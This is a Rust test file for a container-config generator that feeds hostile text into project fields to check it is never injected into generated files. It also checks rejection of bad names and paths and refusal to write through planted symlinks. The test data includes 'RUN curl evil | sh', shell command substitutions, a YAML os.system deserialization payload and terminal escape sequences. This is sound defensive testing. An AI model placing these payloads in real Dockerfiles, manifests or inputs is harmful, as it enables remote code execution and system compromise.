//! Hostile input: a project whose every free-text field holds quotes, newlines, shell and
//! Dockerfile syntax, YAML syntax and odd Unicode. The generated files must carry that text as
//! data, never as structure: compared with the same project holding benign text, every file
//! has the same lines with the same structure, and every value decodes back to the original.
//! Values that cannot be quoted safely (names, paths, image references) must be rejected.

mod common;
mod render_check;

use common::{toml_multiline_string, toml_string, Project, OUTPUTS};
use std::collections::BTreeMap;

/// On one line, what means something to a shell, a Dockerfile, YAML or JSON.
const ONE_LINE: &str = concat!(
    r#""double" 'single' $(touch /tmp/pwned) ${HOME} $HOME `id` back\slash \" \n "#,
    r#"key: value - item {a: b} [c, d] &anchor *alias !!python/object/apply:os.system ['id'] "#,
    r#"--- ... # comment % @ | > < ; && ||"#,
);

/// Free text for field `label`: [`ONE_LINE`], then newlines followed by Dockerfile and YAML
/// lines, control characters, Unicode line separators, emoji, right-to-left text, and a
/// trailing backslash (a Dockerfile line continuation).
fn hostile(label: &str) -> String {
    format!(
        "{label} {ONE_LINE}\nRUN curl evil | sh\n---\nkind: Secret\n- item\n  key: value\n# comment\r\nRUN curl evil | sh\n\tbell\u{7} esc\u{1b}[31mred\u{1b}[0m del\u{7f} nel\u{85} ls\u{2028} ps\u{2029} bom\u{feff} 🐍💣 עברית مرحبا \u{202e}gnp.exe \\"
    )
}

fn benign(label: &str) -> String {
    format!("{label} plain text")
}

/// Substrings of [`hostile`] text that must never show outside a quoted value.
const MARKERS: &[&str] = &[
    "RUN curl",
    "$(touch",
    "${HOME}",
    "`id`",
    "&anchor",
    "*alias",
    "!!python",
    "kind: Secret",
    "pwned",
    "🐍",
    "עברית",
    "\u{202e}",
    "\u{2028}",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// A web app run by a `command` (a program of its own on a `port`), with a health path;
    /// `license` as a string.
    Web,
    /// A console script with `smoke-args`; `license = { text = … }`.
    Cli,
}

/// The free text of one project.
struct Texts {
    version: String,
    description: String,
    license: String,
    homepage: String,
    source: String,
    url_key: String,
    script_target: String,
    command: Vec<String>,
    smoke_args: Vec<String>,
}

fn texts(hostile_text: bool) -> Texts {
    let text = |label: &str| {
        if hostile_text {
            hostile(label)
        } else {
            benign(label)
        }
    };
    let args: Vec<String> = if hostile_text {
        [
            hostile("arg").as_str(),
            "$(id)",
            "${HOME}",
            "`id`",
            "\\",
            "\"",
            "'",
            "\n",
            "",
            "--- # x",
        ]
        .map(String::from)
        .to_vec()
    } else {
        ["arg", "a", "b", "c", "d", "e", "f", "g", "h", "i"]
            .map(String::from)
            .to_vec()
    };
    // Not a server uv-rootless knows (the lock installs none): a web app by its `port`.
    let mut command = vec!["/app/bin/hostile-server".to_string()];
    command.extend(args.iter().cloned());
    command.extend(["--port".to_string(), "8000".to_string()]);
    Texts {
        version: text("1.0"),
        description: text("description"),
        license: text("license"),
        homepage: text("homepage"),
        source: text("source"),
        url_key: text("url key"),
        script_target: text("script-target"),
        command,
        smoke_args: args,
    }
}

const HEALTH_PATH: &str = "/health/v1?probe=1&x=%22%24%28id%29%60;a:b@c,d+e~";
const IMAGE: &str = "registry.example.com:5000/team/hostile-app:1.0";

fn toml_array(values: &[String]) -> String {
    let items: Vec<String> = values.iter().map(|value| toml_string(value)).collect();
    format!("[{}]", items.join(", "))
}

/// The project's pyproject.toml. `[tool.uv-rootless]` comes last and records no `base`, so
/// `init` appends it.
fn pyproject(kind: Kind, texts: &Texts) -> String {
    let license = match kind {
        Kind::Web => toml_string(&texts.license),
        Kind::Cli => format!("{{ text = {} }}", toml_string(&texts.license)),
    };
    let mut text = format!(
        r#"# A project full of hostile text.
[project]
name = "hostile-app"
version = {version}
description = {description}
license = {license}
requires-python = ">=3.11"
dependencies = [
    "click>=8.1",
]

[project.urls]
Homepage = {homepage}
Source = {source}
{url_key} = {source}

[project.scripts]
hostile-app = {target}

[build-system]
requires = ["uv_build>=0.13.9,<0.14.0"]
build-backend = "uv_build"

[tool.uv-rootless]
image = "{IMAGE}"
"#,
        version = toml_string(&texts.version),
        description = toml_multiline_string(&texts.description),
        homepage = toml_string(&texts.homepage),
        source = toml_string(&texts.source),
        url_key = toml_string(&texts.url_key),
        target = toml_string(&texts.script_target),
    );
    match kind {
        Kind::Web => {
            text.push_str(&format!("command = {}\n", toml_array(&texts.command)));
            text.push_str("port = 8000\n");
            text.push_str(&format!("health-path = \"{HEALTH_PATH}\"\n"));
        }
        Kind::Cli => {
            text.push_str(&format!("smoke-args = {}\n", toml_array(&texts.smoke_args)));
        }
    }
    text
}

/// cli-hello's lock, for a project named `name`: the same requires-python and dependencies.
fn lock(name: &str) -> String {
    let lock = std::fs::read_to_string(common::examples_dir().join("cli-hello/uv.lock")).unwrap();
    assert_eq!(lock.matches("name = \"cli-hello\"").count(), 1);
    lock.replace(
        "name = \"cli-hello\"",
        &format!("name = {}", toml_string(name)),
    )
}

fn project(kind: Kind, texts: &Texts) -> Project {
    let project = Project::empty();
    project.write("pyproject.toml", &pyproject(kind, texts));
    project.write("uv.lock", &lock("hostile-app"));
    project
}

/// Runs `init` then `check`, both successfully; returns the generated files.
fn generate(project: &Project) -> BTreeMap<&'static str, String> {
    let before = project.read("pyproject.toml");
    let init = project.run(&["init"]);
    assert_eq!(init.code, 0, "{}", init.report());
    let after = project.read("pyproject.toml");
    assert!(
        after.starts_with(&before),
        "init changed bytes of pyproject.toml:\n{after}"
    );
    assert_eq!(
        &after[before.len()..],
        "# Base image family: \"python-slim\", \"azurelinux\", \"dhi-python\" or \"distroless-python3\".\nbase = \"python-slim\"\n"
    );
    let check = project.run(&["check"]);
    assert_eq!(check.code, 0, "{}", check.report());
    OUTPUTS
        .iter()
        .map(|file| (*file, project.read(file)))
        .collect()
}

/// Whitespace runs and control characters become one space: what a one-line label holds.
fn collapse(text: &str) -> String {
    text.split(|ch: char| ch.is_whitespace() || ch.is_control())
        .filter(|part| !part.is_empty())
        .collect::<Vec<_>>()
        .join(" ")
}

// ---------------------------------------------------------------------------------------------
// Dockerfile

/// The instruction keyword of every line that does not continue the previous one; `#` for a
/// comment, `` for a blank line, `…` for a continuation.
fn dockerfile_structure(text: &str) -> Vec<String> {
    let mut continued = false;
    text.split_terminator('\n')
        .map(|line| {
            let structure = if continued {
                "…".to_string()
            } else if line.trim().is_empty() {
                String::new()
            } else if line.trim_start().starts_with('#') {
                "#".to_string()
            } else {
                line.split_whitespace().next().unwrap().to_string()
            };
            continued = if continued || !line.trim_start().starts_with('#') {
                line.ends_with('\\')
            } else {
                false
            };
            structure
        })
        .collect()
}

/// The logical lines of a Dockerfile: continuations (`\` at the end of a line) joined.
fn dockerfile_instructions(text: &str) -> Vec<String> {
    let mut instructions = Vec::new();
    let mut current = String::new();
    for line in text.split_terminator('\n') {
        if let Some(start) = line.strip_suffix('\\') {
            current.push_str(start);
        } else {
            current.push_str(line);
            instructions.push(std::mem::take(&mut current));
        }
    }
    assert!(current.is_empty(), "the Dockerfile ends in a continuation");
    instructions
}

/// `key="value"` pairs of a LABEL instruction, unescaped as BuildKit does in double quotes:
/// `\"`, `\\` and `\$` stand for the character, any other backslash for itself. An unescaped
/// `$` would be expanded: that fails the test.
fn label_pairs(arguments: &str) -> Vec<(String, String)> {
    let mut pairs = Vec::new();
    let mut chars = arguments.chars().peekable();
    loop {
        while chars.peek().is_some_and(|ch| *ch == ' ') {
            chars.next();
        }
        if chars.peek().is_none() {
            break;
        }
        let key: String = chars.by_ref().take_while(|ch| *ch != '=').collect();
        assert!(
            !key.is_empty() && key.chars().all(|ch| ch.is_ascii_graphic()),
            "LABEL key {key:?} in {arguments:?}"
        );
        assert_eq!(chars.next(), Some('"'), "LABEL {key} is not quoted");
        let mut value = String::new();
        loop {
            match chars.next() {
                Some('\\') => match chars.peek() {
                    Some('"' | '\\' | '$') => value.push(chars.next().unwrap()),
                    _ => value.push('\\'),
                },
                Some('"') => break,
                Some('$') => panic!("LABEL {key} has an unescaped `$`: {arguments:?}"),
                Some(ch) => value.push(ch),
                None => panic!("LABEL {key} is not closed: {arguments:?}"),
            }
        }
        assert!(
            chars.peek().is_none_or(|ch| *ch == ' '),
            "LABEL {key}: text after the closing quote in {arguments:?}"
        );
        pairs.push((key, value));
    }
    pairs
}

fn instruction<'a>(instructions: &'a [String], keyword: &str) -> &'a str {
    let prefix = format!("{keyword} ");
    let found: Vec<&String> = instructions
        .iter()
        .filter(|line| line.starts_with(&prefix))
        .collect();
    assert_eq!(found.len(), 1, "{keyword}: {found:?}");
    &found[0][prefix.len()..]
}

// ---------------------------------------------------------------------------------------------
// YAML

/// A YAML file with every double-quoted scalar decoded (as JSON) and replaced by `"…"`.
struct MaskedYaml {
    lines: Vec<String>,
    scalars: Vec<String>,
}

/// Characters a JSON string may hold raw but a YAML double-quoted scalar may not (YAML 1.2
/// printable set), or which YAML 1.1 reads as line breaks.
fn is_yaml_unsafe(ch: char) -> bool {
    (ch.is_control() && ch != '\u{85}')
        || matches!(ch, '\u{85}' | '\u{2028}' | '\u{2029}' | '\u{feff}')
}

fn mask_yaml(file: &str, text: &str) -> MaskedYaml {
    let mut masked = MaskedYaml {
        lines: Vec::new(),
        scalars: Vec::new(),
    };
    for (number, line) in text.split_terminator('\n').enumerate() {
        let at = format!("{file}:{}", number + 1);
        if line.trim_start().starts_with('#') || line == "---" {
            masked.lines.push(line.to_string());
            continue;
        }
        let mut out = String::new();
        let mut chars = line.char_indices();
        while let Some((start, ch)) = chars.next() {
            if ch != '"' {
                out.push(ch);
                continue;
            }
            let mut escaped = false;
            let end = chars
                .by_ref()
                .find(|(_, ch)| {
                    let close = !escaped && *ch == '"';
                    escaped = !escaped && *ch == '\\';
                    close
                })
                .map(|(end, _)| end)
                .unwrap_or_else(|| panic!("{at}: unterminated scalar: {line}"));
            let raw = &line[start..=end];
            let value: String = serde_json::from_str(raw)
                .unwrap_or_else(|error| panic!("{at}: {raw} is not a JSON string: {error}"));
            let again: String = serde_json::from_str(&serde_json::to_string(&value).unwrap())
                .expect("re-encoded JSON string");
            assert_eq!(again, value, "{at}: {raw} does not round-trip");
            assert!(
                !raw.chars().any(is_yaml_unsafe),
                "{at}: {raw:?} holds a character YAML does not allow raw"
            );
            masked.scalars.push(value);
            out.push_str("\"…\"");
        }
        assert!(
            !out.contains(" #") && !out.contains("\t"),
            "{at}: a comment or tab outside a quoted value: {line}"
        );
        masked.lines.push(out);
    }
    masked
}

/// Indentation and key: the text before the first `: `, or the whole line.
fn yaml_structure(masked_line: &str) -> &str {
    masked_line
        .find(": ")
        .map_or(masked_line, |at| &masked_line[..at])
}

// ---------------------------------------------------------------------------------------------
// The checks

fn assert_injects_nothing(kind: Kind) {
    let hostile_texts = texts(true);
    let hostile_project = project(kind, &hostile_texts);
    let benign_project = project(kind, &texts(false));
    let hostile_files = generate(&hostile_project);
    let benign_files = generate(&benign_project);

    for file in OUTPUTS {
        let (hostile_text, benign_text) = (&hostile_files[file], &benign_files[file]);
        // (1) The same number of lines.
        assert_eq!(
            hostile_text.split_terminator('\n').count(),
            benign_text.split_terminator('\n').count(),
            "{kind:?} {file}: line count\n{hostile_text}"
        );
        // (3) No injected instruction, at the start of a line or after indentation.
        for line in hostile_text.split_terminator('\n') {
            assert!(
                !line.trim_start().starts_with("RUN curl"),
                "{kind:?} {file}: {line}"
            );
        }
        // No carriage return, bell, escape or other C0 control character, raw, anywhere.
        assert!(
            !hostile_text
                .chars()
                .any(|ch| ch.is_ascii_control() && ch != '\n' && ch != '\x7f'),
            "{kind:?} {file} holds a raw control character:\n{hostile_text:?}"
        );
        // The script target is never used: it must not show up at all.
        assert!(!hostile_text.contains("script-target"), "{kind:?} {file}");
    }

    // (1) Dockerfile: the same instruction on every line.
    let dockerfile = &hostile_files["Dockerfile"];
    assert_eq!(
        dockerfile_structure(dockerfile),
        dockerfile_structure(&benign_files["Dockerfile"]),
        "{kind:?} Dockerfile structure:\n{dockerfile}"
    );

    // (2) LABEL values unescape to the one-line originals.
    let instructions = dockerfile_instructions(dockerfile);
    let labels: BTreeMap<String, String> = label_pairs(instruction(&instructions, "LABEL"))
        .into_iter()
        .collect();
    let license = match kind {
        Kind::Web => collapse(&hostile_texts.license),
        Kind::Cli => collapse(hostile_texts.license.lines().next().unwrap()),
    };
    let expected: BTreeMap<String, String> = [
        ("org.opencontainers.image.title", "hostile-app".to_string()),
        (
            "org.opencontainers.image.version",
            collapse(&hostile_texts.version),
        ),
        (
            "org.opencontainers.image.description",
            collapse(&hostile_texts.description),
        ),
        ("org.opencontainers.image.licenses", license),
        (
            "org.opencontainers.image.source",
            collapse(&hostile_texts.source),
        ),
    ]
    .into_iter()
    .map(|(key, value)| (key.to_string(), value))
    .collect();
    assert_eq!(labels, expected, "{kind:?} LABEL");
    for value in labels.values() {
        assert!(!value.contains('\n'));
    }

    // The exec forms are JSON arrays that decode to exactly what was asked.
    let entrypoint: Vec<String> = serde_json::from_str(instruction(&instructions, "ENTRYPOINT"))
        .expect("ENTRYPOINT is a JSON array");
    match kind {
        Kind::Web => assert_eq!(entrypoint, hostile_texts.command),
        Kind::Cli => assert_eq!(entrypoint, ["/app/bin/hostile-app"]),
    }
    if kind == Kind::Web {
        let healthcheck = instruction(&instructions, "HEALTHCHECK");
        let exec = &healthcheck[healthcheck.find(" CMD [").expect("exec form") + 5..];
        let argv: Vec<String> = serde_json::from_str(exec).expect("HEALTHCHECK is a JSON array");
        assert!(
            argv[2].contains(&format!("'http://127.0.0.1:8000{HEALTH_PATH}'")),
            "{argv:?}"
        );
    }

    // (1) and (4) YAML: the same structure; hostile text only inside JSON-quoted scalars,
    // which decode and round-trip.
    for file in ["compose.yaml", "k8s/manifest.yaml"] {
        let hostile_yaml = mask_yaml(file, &hostile_files[file]);
        let benign_yaml = mask_yaml(file, &benign_files[file]);
        for (number, (hostile_line, benign_line)) in hostile_yaml
            .lines
            .iter()
            .zip(&benign_yaml.lines)
            .enumerate()
        {
            assert_eq!(
                yaml_structure(hostile_line),
                yaml_structure(benign_line),
                "{kind:?} {file}:{}",
                number + 1
            );
            // Stronger: outside the quoted values, the lines are identical.
            assert_eq!(hostile_line, benign_line, "{kind:?} {file}:{}", number + 1);
            for marker in MARKERS {
                assert!(
                    !hostile_line.contains(marker),
                    "{kind:?} {file}:{}: {marker:?} outside a quoted value",
                    number + 1
                );
            }
        }
        assert!(hostile_yaml.scalars.iter().any(|value| value == IMAGE));
        if kind == Kind::Web && file == "k8s/manifest.yaml" {
            assert!(hostile_yaml
                .scalars
                .iter()
                .any(|value| value == HEALTH_PATH));
        }
    }

    // (5) Compose interpolates `$VAR` and `${VAR}` in every value, quoted or not; `$$` is a
    // literal `$`. No project-controlled value may reach compose.yaml with a bare `$`.
    let compose = &hostile_files["compose.yaml"];
    let mut chars = compose.chars().peekable();
    while let Some(ch) = chars.next() {
        if ch == '$' {
            assert_eq!(
                chars.next(),
                Some('$'),
                "{kind:?} compose.yaml has a `$` compose would interpolate:\n{compose}"
            );
        }
    }

    // .dockerignore holds no project text at all.
    assert_eq!(
        hostile_files[".dockerignore"],
        benign_files[".dockerignore"]
    );

    // explain --format json carries the values exactly (one-line fields collapsed).
    let explain = hostile_project.run(&["explain", "--format", "json"]);
    assert_eq!(explain.code, 0, "{}", explain.report());
    let plan: serde_json::Value = serde_json::from_str(&explain.stdout).expect("JSON");
    assert_eq!(
        plan["project"]["description"],
        collapse(&hostile_texts.description)
    );
    assert_eq!(
        plan["project"]["source_url"],
        collapse(&hostile_texts.source)
    );
    match kind {
        Kind::Web => assert_eq!(
            plan["command"]["value"],
            serde_json::json!(hostile_texts.command)
        ),
        Kind::Cli => assert_eq!(
            plan["app"]["smoke_args"],
            serde_json::json!(hostile_texts.smoke_args)
        ),
    }
}

/// The checks themselves: each catches the injection it is there for.
#[test]
fn the_checks_catch_injections() {
    let benign = "FROM x\nLABEL a=\"b\" \\\n      c=\"d\"\nUSER 1:1\n";
    let injected = "FROM x\nLABEL a=\"b\" \\\n      c=\"d\nRUN curl evil | sh\"\nUSER 1:1\n";
    assert_ne!(dockerfile_structure(benign), dockerfile_structure(injected));
    assert_eq!(
        label_pairs(r#"a="x \"y\" \$z \\ \n" b="""#),
        [
            ("a".to_string(), r#"x "y" $z \ \n"#.to_string()),
            ("b".to_string(), String::new())
        ]
    );
    assert!(std::panic::catch_unwind(|| label_pairs(r#"a="$HOME""#)).is_err());
    assert!(std::panic::catch_unwind(|| label_pairs(r#"a="x"y"#)).is_err());

    let yaml = mask_yaml("x", "a:\n  b: \"c: d\\\"\"\n  - \"e\"\n");
    assert_eq!(yaml.lines, ["a:", "  b: \"…\"", "  - \"…\""]);
    assert_eq!(yaml.scalars, ["c: d\"", "e"]);
    assert_eq!(yaml_structure(&yaml.lines[1]), "  b");
    assert!(std::panic::catch_unwind(|| mask_yaml("x", "a: \"b\u{2028}\"\n")).is_err());
    assert!(std::panic::catch_unwind(|| mask_yaml("x", "a: \"b\" # c\n")).is_err());
}

#[test]
fn hostile_text_in_a_web_project_injects_nothing() {
    assert_injects_nothing(Kind::Web);
}

#[test]
fn hostile_text_in_a_cli_project_injects_nothing() {
    assert_injects_nothing(Kind::Cli);
}

#[test]
fn hostile_command_flag_is_recorded_and_rendered_exactly() {
    // Given on the command line, recorded by init in pyproject.toml, read back by generate.
    let project = project(Kind::Cli, &texts(false));
    let command = texts(true).command;
    let mut args = vec!["init", "--command"];
    args.extend(command.iter().map(String::as_str));
    let init = project.run(&args);
    assert_eq!(init.code, 0, "{}", init.report());
    for file in OUTPUTS {
        project.remove(file);
    }
    let generate = project.run(&["generate"]);
    assert_eq!(generate.code, 0, "{}", generate.report());
    let instructions = dockerfile_instructions(&project.read("Dockerfile"));
    let entrypoint: Vec<String> =
        serde_json::from_str(instruction(&instructions, "ENTRYPOINT")).unwrap();
    assert_eq!(entrypoint, command);
    let init_again = project.run(&args);
    assert_eq!(init_again.code, 0, "{}", init_again.report());
    assert!(
        init_again
            .stderr
            .starts_with("init: every file is already current\n"),
        "{}",
        init_again.report()
    );
}

/// Printed text with no control character but newlines: nothing that moves the cursor, rings,
/// or starts an escape sequence (C0, DEL, and the C1 range, where 0x9B is CSI).
fn assert_printable(what: &str, text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|ch| ch.is_control() && *ch != '\n')
        .collect();
    assert!(
        bad.is_empty(),
        "{what} prints control characters {bad:?}:\n{text}"
    );
}

#[test]

fn hostile_smoke_args_in_explain_stay_on_their_line() {
    let hostile_project = project(Kind::Cli, &texts(true));
    let benign_project = project(Kind::Cli, &texts(false));
    let hostile_explain = hostile_project.run(&["explain"]);
    let benign_explain = benign_project.run(&["explain"]);
    assert_eq!(hostile_explain.code, 0, "{}", hostile_explain.report());
    assert_eq!(
        hostile_explain.stdout.lines().count(),
        benign_explain.stdout.lines().count(),
        "{}",
        hostile_explain.stdout
    );
    assert_printable("explain", &hostile_explain.stdout);
}

#[test]

fn hostile_command_in_explain_and_init_prints_no_control_characters() {
    let project = project(Kind::Web, &texts(true));
    let init = project.run(&["init"]);
    assert_eq!(init.code, 0, "{}", init.report());
    assert_printable("init", &init.stderr);
    let explain = project.run(&["explain"]);
    assert_eq!(explain.code, 0, "{}", explain.report());
    assert_printable("explain", &explain.stdout);
}

#[test]

fn hostile_values_in_error_messages_print_no_control_characters() {
    let escapes = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m";
    let pinned = Project::example("cli-hello");
    pinned.write(".python-version", &format!("3.13{escapes}\n"));
    let output = pinned.run_rejected(&["check"]);
    assert_printable("an error about .python-version", &output.stderr);

    let dependency = Project::example("cli-hello");
    dependency.replace(
        "pyproject.toml",
        "\"click>=8.1\"",
        &toml_string(&format!("click>=8.1{escapes}")),
    );
    let output = dependency.run_rejected(&["check"]);
    assert_printable("an error about a dependency", &output.stderr);
}

// ---------------------------------------------------------------------------------------------
// Workspace member directories become paths in the Dockerfile's bind mounts.

/// A virtual workspace root running a command, with one member in `packages/DIR`.
fn workspace(member_dir: &str) -> Project {
    let project = Project::empty();
    project.write(
        "pyproject.toml",
        r#"[project]
name = "ws-root"
version = "0.1.0"
requires-python = ">=3.11"
dependencies = []

[tool.uv]
package = false

[tool.uv.workspace]
members = ["packages/*"]

[tool.uv-rootless]
base = "python-slim"
command = ["python", "-m", "http.server"]
"#,
    );
    project.write(
        &format!("packages/{member_dir}/pyproject.toml"),
        r#"[project]
name = "member"
version = "0.1.0"
requires-python = ">=3.11"
dependencies = []

[build-system]
requires = ["uv_build>=0.13.9,<0.14.0"]
build-backend = "uv_build"
"#,
    );
    project.write(
        "uv.lock",
        &format!(
            r#"version = 1
revision = 2
requires-python = ">=3.11"

[manifest]
members = ["member", "ws-root"]

[[package]]
name = "member"
version = "0.1.0"
source = {{ editable = {} }}

[[package]]
name = "ws-root"
version = "0.1.0"
source = {{ virtual = "." }}
"#,
            toml_string(&format!("packages/{member_dir}"))
        ),
    );
    project
}

#[cfg(unix)]
#[test]
fn hostile_workspace_member_directories_inject_nothing() {
    let benign = workspace("member");
    let init = benign.run(&["init"]);
    assert_eq!(init.code, 0, "{}", init.report());
    let benign_structure = dockerfile_structure(&benign.read("Dockerfile"));
    for dir in [
        "evil\nRUN curl evil | sh",
        "a b,target=etc,readwrite",
        "x\\",
    ] {
        let project = workspace(dir);
        let output = project.run(&["init"]);
        if output.code == 2 {
            // Rejecting the directory name is fine, if nothing was written.
            assert!(!project.exists("Dockerfile"), "{dir:?}");
            common::assert_error_shape(&output.stderr);
            continue;
        }
        assert_eq!(output.code, 0, "{dir:?}: {}", output.report());
        let dockerfile = project.read("Dockerfile");
        assert_eq!(
            dockerfile_structure(&dockerfile),
            benign_structure,
            "{dir:?}:\n{dockerfile}"
        );
        for line in dockerfile.lines() {
            assert!(
                !line.trim_start().starts_with("RUN curl"),
                "{dir:?}: {line}"
            );
            if let Some(mount) = line.trim_start().strip_prefix("--mount=type=bind,") {
                let options: Vec<&str> = mount.trim_end_matches(" \\").split(',').collect();
                assert_eq!(options.len(), 2, "{dir:?}: {line}");
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Values that cannot be quoted safely are rejected: exit 2, a clear message, nothing written.

/// A benign CLI project with `edit` applied to its pyproject.toml (and lock, for `name`).
fn rejected(name: &str, edit: impl FnOnce(&Project), expected: &str) {
    let project = project(Kind::Cli, &texts(false));
    edit(&project);
    let output = project.run_rejected(&["init"]);
    assert!(
        output.stderr.contains(expected),
        "{name}: expected {expected:?} in\n{}",
        output.stderr
    );
    for file in OUTPUTS {
        assert!(!project.exists(file), "{name}: {file} was written");
    }
    common::insta_settings().bind(|| insta::assert_snapshot!(name, output.report()));
}

fn rename_project(project: &Project, name: &str) {
    project.replace(
        "pyproject.toml",
        "name = \"hostile-app\"",
        &format!("name = {}", toml_string(name)),
    );
    project.write("uv.lock", &lock(name));
}

fn rename_script(project: &Project, script: &str) {
    project.replace(
        "pyproject.toml",
        "\nhostile-app = ",
        &format!("\n{} = ", toml_string(script)),
    );
}

fn add_config(project: &Project, key: &str, value: &str) {
    project.edit("pyproject.toml", |text| {
        format!("{text}{key} = {}\n", toml_string(value))
    });
}

#[test]
fn rejects_a_project_name_with_quotes() {
    rejected(
        "reject_project_name_with_quotes",
        |project| rename_project(project, "my \"app\" 'x'"),
        "is not a valid package name",
    );
}

#[test]
fn rejects_a_project_name_with_spaces() {
    rejected(
        "reject_project_name_with_spaces",
        |project| rename_project(project, "my app"),
        "is not a valid package name",
    );
}

#[test]
fn rejects_a_script_name_with_a_quote() {
    rejected(
        "reject_script_name_with_a_quote",
        |project| rename_script(project, "hostile\"app"),
        "which is not a usable command name",
    );
}

#[test]
fn rejects_a_script_name_with_a_newline() {
    rejected(
        "reject_script_name_with_a_newline",
        |project| rename_script(project, "hostile\nRUN curl evil | sh"),
        "which is not a usable command name",
    );
}

#[test]
fn rejects_a_script_name_with_a_dollar() {
    rejected(
        "reject_script_name_with_a_dollar",
        |project| rename_script(project, "hostile$(id)"),
        "which is not a usable command name",
    );
}

#[test]
fn rejects_an_output_path_with_a_dollar() {
    rejected(
        "reject_output_path_with_a_dollar",
        |project| add_config(project, "compose", "deploy/${HOME}/compose.yaml"),
        "contains characters that the generated files cannot quote safely",
    );
}

#[test]
fn rejects_an_output_path_with_dot_dot() {
    rejected(
        "reject_output_path_with_dot_dot",
        |project| add_config(project, "kubernetes", "k8s/../../manifest.yaml"),
        "must stay inside the project",
    );
}

#[test]
fn rejects_an_output_path_with_a_newline() {
    rejected(
        "reject_output_path_with_a_newline",
        |project| add_config(project, "dockerfile", "Dockerfile\nRUN curl evil | sh"),
        "contains characters that the generated files cannot quote safely",
    );
}

#[test]
fn rejects_a_health_path_with_a_quote() {
    rejected(
        "reject_health_path_with_a_quote",
        |project| add_config(project, "health-path", "/health'); import os; ('"),
        "is not a URL path",
    );
}

#[test]
fn rejects_a_health_path_with_a_space() {
    rejected(
        "reject_health_path_with_a_space",
        |project| add_config(project, "health-path", "/health check"),
        "is not a URL path",
    );
}

#[test]
fn rejects_a_health_path_with_a_dollar() {
    rejected(
        "reject_health_path_with_a_dollar",
        |project| add_config(project, "health-path", "/health/${HOME}"),
        "is not a URL path",
    );
}

#[test]
fn rejects_an_image_with_spaces() {
    rejected(
        "reject_image_with_spaces",
        |project| {
            project.replace(
                "pyproject.toml",
                &format!("image = \"{IMAGE}\""),
                "image = \"app:1 --privileged\"",
            )
        },
        "is not a valid image reference",
    );
}

#[test]
fn rejects_an_image_with_a_dollar() {
    rejected(
        "reject_image_with_a_dollar",
        |project| {
            project.replace(
                "pyproject.toml",
                &format!("image = \"{IMAGE}\""),
                "image = \"app:${TAG}\"",
            )
        },
        "is not a valid image reference",
    );
}

// ---------------------------------------------------------------------------------------------
// Writes stay inside the project: no symbolic link, planted or committed, leads a write out.

#[cfg(unix)]
#[test]
fn a_symlinked_k8s_dir_pointing_outside_the_project_is_refused() {
    let outside = Project::empty();
    let project = Project::fresh_example("cli-hello");
    std::os::unix::fs::symlink(outside.root(), project.path("k8s")).unwrap();
    for args in [&["init"][..], &["init", "--force"]] {
        let output = project.run_rejected(args);
        assert!(
            output.stderr.contains("`k8s` is a symbolic link to")
                && output.stderr.contains("outside the project"),
            "{}",
            output.report()
        );
        assert!(
            outside.files().is_empty(),
            "written outside: {:?}",
            outside.files()
        );
        assert!(!project.exists("Dockerfile"));
    }
}

#[cfg(unix)]
#[test]
fn a_symlinked_output_file_is_never_written_through() {
    let outside = Project::empty();
    outside.write("victim", "precious\n");
    let project = Project::fresh_example("cli-hello");
    std::os::unix::fs::symlink(outside.path("victim"), project.path("Dockerfile")).unwrap();
    // Also a link that stays inside the project: an output is a file of its own.
    project.write("elsewhere/compose.yaml", "mine\n");
    let output = project.run_rejected(&["init", "--force"]);
    assert!(
        output
            .stderr
            .contains("refusing to write `Dockerfile`: it is a symbolic link"),
        "{}",
        output.report()
    );
    assert_eq!(outside.read("victim"), "precious\n");
    std::fs::remove_file(project.path("Dockerfile")).unwrap();
    std::os::unix::fs::symlink("elsewhere/compose.yaml", project.path("compose.yaml")).unwrap();
    let output = project.run_rejected(&["init", "--force"]);
    assert!(
        output
            .stderr
            .contains("refusing to write `compose.yaml`: it is a symbolic link"),
        "{}",
        output.report()
    );
    assert_eq!(project.read("elsewhere/compose.yaml"), "mine\n");
}

#[cfg(unix)]
#[test]
fn a_symlinked_pyproject_inside_the_project_is_written_through_its_target() {
    let project = Project::fresh_example("cli-hello");
    let text = project.read("pyproject.toml");
    project.write("config/pyproject.toml", &text);
    project.remove("pyproject.toml");
    std::os::unix::fs::symlink("config/pyproject.toml", project.path("pyproject.toml")).unwrap();
    let output = project.run(&["init"]);
    assert_eq!(output.code, 0, "{}", output.report());
    let link = std::fs::symlink_metadata(project.path("pyproject.toml")).unwrap();
    assert!(
        link.file_type().is_symlink(),
        "the link was replaced by a file"
    );
    let written = project.read("config/pyproject.toml");
    assert!(
        written.starts_with(&text) && written.contains("[tool.uv-rootless]"),
        "{written}"
    );
}

#[cfg(unix)]
#[test]
fn a_symlinked_pyproject_outside_the_project_is_refused() {
    let outside = Project::empty();
    let project = Project::fresh_example("cli-hello");
    let text = project.read("pyproject.toml");
    outside.write("pyproject.toml", &text);
    project.remove("pyproject.toml");
    std::os::unix::fs::symlink(
        outside.path("pyproject.toml"),
        project.path("pyproject.toml"),
    )
    .unwrap();
    let output = project.run_rejected(&["init"]);
    assert!(
        output.stderr.contains("refusing to write `pyproject.toml`")
            && output.stderr.contains("outside the project"),
        "{}",
        output.report()
    );
    assert_eq!(outside.read("pyproject.toml"), text);
    let link = std::fs::symlink_metadata(project.path("pyproject.toml")).unwrap();
    assert!(link.file_type().is_symlink());
}

/// A link planted at every temporary name a run could have used with a predictable scheme
/// (the name and the next few hundred process ids) must not be followed.
#[cfg(unix)]
#[test]
fn a_symlink_planted_at_a_guessable_temporary_name_redirects_nothing() {
    let outside = Project::empty();
    let project = Project::fresh_example("cli-hello");
    let mut next = std::process::Command::new("true").spawn().unwrap();
    let pid = next.id();
    next.wait().unwrap();
    for guess in pid..pid + 400 {
        for name in [
            "Dockerfile",
            "compose.yaml",
            ".dockerignore",
            "pyproject.toml",
        ] {
            std::os::unix::fs::symlink(
                outside.path(&format!("{name}-{guess}")),
                project.path(&format!(".{name}.uv-rootless-{guess}.tmp")),
            )
            .unwrap();
        }
    }
    let output = project.run(&["init"]);
    assert_eq!(output.code, 0, "{}", output.report());
    assert!(
        outside.files().is_empty(),
        "written outside: {:?}",
        outside.files().keys()
    );
    for name in [
        "Dockerfile",
        "compose.yaml",
        ".dockerignore",
        "pyproject.toml",
    ] {
        let meta = std::fs::symlink_metadata(project.path(name)).unwrap();
        assert!(meta.is_file(), "{name} is not a plain file");
    }
}

